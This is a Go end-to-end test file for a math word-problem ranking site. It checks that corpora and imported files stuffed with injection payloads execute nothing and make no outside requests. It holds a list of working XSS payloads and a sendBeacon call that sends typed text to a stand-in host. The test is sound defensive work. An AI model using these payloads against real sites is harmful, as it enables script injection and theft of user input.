package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// attacks are texts that would do something in a page that takes text for HTML: %[1]s is this
// test's host, %[2]s its UDP socket.
var attacks = []string{
	`<script>window.attacked=1;fetch("http://%[1]s/script")</script>`,
	`<img src="http://%[1]s/image" onerror="window.attacked=1">`,
	`<svg onload="window.attacked=1"><image href="http://%[1]s/svg"/></svg>`,
	`"><iframe src="http://%[1]s/frame" srcdoc="<script>parent.attacked=1</script>"></iframe>`,
	`'><link rel="stylesheet" href="http://%[1]s/style"><style>@import "http://%[1]s/import";</style>`,
	`<math><mtext></mtext><mglyph><style><img src=x onerror=window.attacked=1></style></mglyph></math>`,
	`<a href="javascript:window.attacked=1" autofocus onfocus="window.attacked=1">go</a>`,
	`<form action="http://%[1]s/form"><input name=a autofocus onfocus="window.attacked=1"></form>`,
	`<meta http-equiv="refresh" content="0;url=http://%[1]s/refresh"><base href="http://%[1]s/">`,
	`<video poster="http://%[1]s/poster"><source src="http://%[1]s/source" onerror="window.attacked=1"></video>`,
	`<img src=x onerror="new RTCPeerConnection({iceServers:[{urls:'stun:%[2]s'}]}).createDataChannel('x')">`,
	`{{constructor.constructor("window.attacked=1")()}} ${window.attacked=1} &lt;img src=x onerror=window.attacked=1&gt;`,
}

// elementsOfAttacks counts the elements that attacks would bring into the page.
const elementsOfAttacks = "['script', 'img', 'iframe', 'link', 'style', 'base', 'meta', 'video', 'image', 'a[href^=java]', '[onerror]', '[onload]', '[onfocus]'].map(s => document.querySelectorAll(s).length).join()"

// hostileCorpus has an attack in every field that takes text. The search for (a + b) * c finds them
// all.
func hostileCorpus(host, udp string) []byte {
	type problem struct {
		ID       string `json:"id"`
		Text     string `json:"text"`
		Equation string `json:"equation"`
		Answer   int    `json:"answer"`
		Topic    string `json:"topic"`
		Story    string `json:"story"`
	}
	var problems []problem
	short := func(s string, n int) string { return s[:min(n, len(s))] }
	for i, a := range attacks {
		a = strings.ReplaceAll(strings.ReplaceAll(a, "%[1]s", host), "%[2]s", udp)
		// No number of an attack may stand before those of the problem, or the equation would be over
		// others; and the problem has more words than the attack has tags, or it would be taken for code.
		problems = append(problems, problem{short(fmt.Sprint(i, " ", a), 100), "A shop sells 31 pens and 41 pads every day of the year. How many pens and pads are sold in 59 days altogether, when nothing is out of stock? " + a, "(31 + 41) * 59", 4248, short(a, 60), short(a, 100)})
	}
	b, err := json.Marshal(map[string]any{"format": "mwpranker-corpus", "version": 1, "name": fmt.Sprintf(attacks[0], host), "licence": fmt.Sprintf(attacks[1], host), "problems": problems})
	if err != nil {
		panic(err)
	}
	return b
}

// TestHostileCorpus: a corpus with script in every field runs none of it and asks for nothing.
func TestHostileCorpus(t *testing.T) {
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer udp.Close()
	datagrams := make(chan bool, 100)
	go func() {
		for b := make([]byte, 1500); ; {
			if _, _, err := udp.ReadFrom(b); err != nil {
				return
			}
			select {
			case datagrams <- true:
			default:
			}
		}
	}()
	folder := t.TempDir()
	h := newHost(t, nil)
	corpus := filepath.Join(folder, "corpus.json")
	if err := os.WriteFile(corpus, hostileCorpus(h.address, udp.LocalAddr().String()), 0o644); err != nil {
		t.Fatal(err)
	}
	site := filepath.Join(folder, "site")
	if out, err := exec.Command("go", "run", "mwpranker/cmd/mwp", "build", "-dist", dist(t), "-corpus", corpus, "-o", site).CombinedOutput(); err != nil {
		t.Fatalf("mwp build: %v\n%s", err, out)
	}
	h.serves(dumb(site)) // without headers of ours: only the page itself defends
	u := h.visitor("/")
	u.isReady()
	u.isKept("ready")
	h.requests()
	before := ask[string](u, elementsOfAttacks)

	u.writes("= (a + b) * c")
	u.sees("#group-same .card", "A shop sells")
	u.seesAll()
	if n := u.count("#group-same .card"); n < 3 {
		t.Errorf("only %d attacks are shown", n)
	}
	ask[bool](u, "document.querySelectorAll('#group-same .card .why, #group-same .card .reveal, #group-same .card .add').forEach(b => b.click()), true")
	u.clicks("#filters")
	u.looksAround()
	u.writes(attacks[0] + " 31 pens and 41 pads cost 59 cents each. How many cents in all? " + attacks[1])
	u.sees("#query-text", "cents each")
	ask[bool](u, "new Promise(done => setTimeout(() => done(true), 500))")
	if ask[bool](u, "'attacked' in window") {
		t.Error("a script of the corpus ran")
	}
	if after := ask[string](u, elementsOfAttacks); after != before {
		t.Errorf("elements of the corpus are in the page: %s, before %s", after, before)
	}
	h.silent("a session with a hostile corpus")

	// Were an attack to get into the page one day, the page's own policy would still hold. The browser
	// says so on the console, so this is done in a second page, whose console nobody watches.
	ctx, cancel := chromedp.NewContext(u.ctx)
	defer cancel()
	second := &user{t: t, ctx: ctx, url: u.url}
	second.does(chromedp.Navigate(u.url))
	second.isReady()
	ask[bool](second, `(() => {
		const script = document.createElement("script");
		script.append("window.attacked = 2"); // to set its text would fail already: see TestTrustedTypes
		const image = new Image();
		image.src = "http://elsewhere.example/image";
		document.body.append(script, image);
		navigator.sendBeacon("http://elsewhere.example/beacon", "what was typed");
		return new Promise(done => setTimeout(() => done(true), 500));
	})()`)
	if ask[bool](second, "'attacked' in window") {
		t.Error("a script that stood in the page ran")
	}
	if _, elsewhere := h.requests(); len(elsewhere) > 0 {
		t.Errorf("an attack in the page asked for %q", elsewhere)
	}
	cancel()

	// The socket would have heard a call: this one is the test's own.
	u.does(chromedp.Navigate("about:blank"))
	ask[bool](u, `(async () => {
		globalThis.call = new RTCPeerConnection({iceServers: [{urls: "stun:`+udp.LocalAddr().String()+`"}]});
		call.createDataChannel("x");
		await call.setLocalDescription();
		return true;
	})()`)
	select {
	case <-datagrams:
	case <-time.After(10 * time.Second):
		t.Error("the test's own datagram was not heard either")
	}
}

// TestHostileImport: a file that somebody gave the user, with script in its name and in every
// field, runs none of it and asks for nothing; nor does what the page writes of it.
func TestHostileImport(t *testing.T) {
	h := newHost(t, dumb(dist(t)))
	u := h.visitor("/")
	u.isReady()
	u.isKept("ready")
	h.requests()
	given := u.downloads()
	before := ask[string](u, elementsOfAttacks)

	u.clicks("#open-own")
	content := string(hostileCorpus(h.address, "127.0.0.1:9"))
	content = strings.Replace(content, `"problems":[`, `"problems":[{"id":`+quote(attacks[1])+`,"text":`+quote(attacks[3])+`,"equation":`+quote(attacks[11])+`},`, 1) // this one cannot be read
	u.gives(attacks[1]+".json", content)
	u.sees("#own-1 .left", "(1)")
	u.clicks("#own-1 .left")
	u.sees(".faults", "onerror")
	u.gives("page.html", "<html>"+attacks[0]+"</html>")
	u.sees("#own-refused", "page.html was not imported.")
	u.clicks("#use-own")
	u.presses("Escape")
	u.misses("#dialog-own")
	u.writes("= (a + b) * c")
	u.sees("#group-same .card", "A shop sells")
	u.waits("the attacks are shown", `document.querySelectorAll("#group-same .card").length > 3`)
	ask[bool](u, "document.querySelectorAll('#group-same .card .why, #group-same .card .reveal, #group-same .card .add').forEach(b => b.click()), true")
	u.clicks("#filters")
	u.clicks("#open-worksheet")
	u.clicks("#save-worksheet")
	sheet := given("worksheet.html")
	if !strings.Contains(sheet, "A shop sells") || strings.Contains(sheet, "<img") || strings.Contains(sheet, "<script") {
		t.Errorf("the worksheet is %s", sheet)
	}
	ask[bool](u, "new Promise(done => setTimeout(() => done(true), 500))")
	if ask[bool](u, "'attacked' in window") {
		t.Error("a script of the file ran")
	}
	if after := ask[string](u, elementsOfAttacks); after != before {
		t.Errorf("elements of the file are in the page: %s, before %s", after, before)
	}
	h.silent("a session with a hostile file")
}
